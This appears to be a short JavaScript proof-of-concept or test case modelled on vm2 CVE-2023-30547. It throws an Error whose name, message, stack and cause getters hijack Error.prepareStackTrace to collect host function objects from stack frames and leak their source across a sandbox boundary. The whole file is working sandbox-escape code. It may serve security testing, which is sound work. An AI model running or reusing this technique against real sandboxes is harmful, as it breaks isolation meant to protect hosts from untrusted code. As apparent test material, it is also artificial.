// What is thrown has getters for its name, its message, its stack and its cause.
// after: interpreter
// source: vm2: CVE-2023-30547
// calls: next next
let found = [];
const attack = {
  next() {
    if (found.length) return { proof: found };
    const error = new Error('x');
    function look() {
      Error.prepareStackTrace = (_, frames) => frames;
      const { stack } = new Error();
      Error.prepareStackTrace = undefined;
      found = stack.map((frame) => frame.getFunction()).filter(Boolean).map(String).filter((text) => !/native code|look/.test(text));
      return 'x';
    }
    for (const name of ['name', 'message', 'stack', 'cause']) Object.defineProperty(error, name, { get: look });
    throw error;
  },
};
